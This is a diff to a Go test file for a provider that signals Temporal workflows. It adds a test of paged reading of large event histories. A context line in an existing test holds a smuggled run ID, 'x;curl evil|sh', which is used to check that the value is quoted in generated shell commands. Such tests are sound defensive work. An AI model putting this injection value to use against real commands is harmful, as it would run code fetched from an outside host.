@@ -1,8 +1,12 @@
 package temporal_test
 
 import (
+	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
@@ -102,4 +106,39 @@ func TestRunIDIsQuotedInCommands(t *testing.T) {
 	r := acctest.StartProvider(t, acctest.Values{"temporal": acctest.Values{"address": server.URL}}).Resource("signal_temporal_workflow")
 	says(t, r.Apply(acctest.Values{"workflow_id": "w", "signal_name": "go", "wait_for_completion": true}), true,
 		"Target Cannot Be Read", `"temporal workflow describe --namespace default --workflow-id w --run-id 'x;curl evil|sh'"`)
+}
+
+// A page of events with large inputs may be longer than an answer that the provider reads.
+// It asks for that page again, with fewer events on it.
+func TestPagesOfLargeEventsAreRead(t *testing.T) {
+	t.Parallel()
+	s := acctest.Sandbox(t, sandbox.Options{})
+	p := acctest.StartProvider(t, acctest.Block(s.URL()))
+	id := startWorkflow(s)
+	config := acctest.Values{"workflow_id": id, "signal_name": "go", "request_id": "release-1", "adopt_existing": true}
+	apply(t, p.Resource("signal_temporal_workflow"), config)
+	upstream, err := acctest.TemporalURL()
+	must(t, err)
+	// The first page has only small events.
+	for i, size := range append(slices.Repeat([]int{2<<20 - 100}, 9), make([]int, 110)...) {
+		body := fmt.Sprintf(`{"requestId":"other-%d","input":[%q]}`, i, strings.Repeat("x", size))
+		resp, err := http.Post(upstream+"/api/v1/namespaces/default/workflows/"+id+"/signal/go", "application/json", strings.NewReader(body))
+		must(t, err)
+		_ = resp.Body.Close()
+		if resp.StatusCode != http.StatusOK {
+			t.Fatal(resp.Status)
+		}
+	}
+	s.ResetRequestLog()
+	r := p.Resource("signal_temporal_workflow")
+	apply(t, r, config)
+	var sizes []string
+	for _, request := range s.RequestLog() {
+		if query, _ := url.ParseQuery(request.Query); query.Has("maximumPageSize") {
+			sizes = append(sizes, query.Get("maximumPageSize"))
+		}
+	}
+	if r.String("delivery") != "ADOPTED" || s.Count(send) != 0 || len(sizes) < 3 || !slices.Equal(sizes[:3], []string{"100", "100", "25"}) {
+		t.Errorf("after pages of %v events the state is %s", sizes, r.State)
+	}
 }
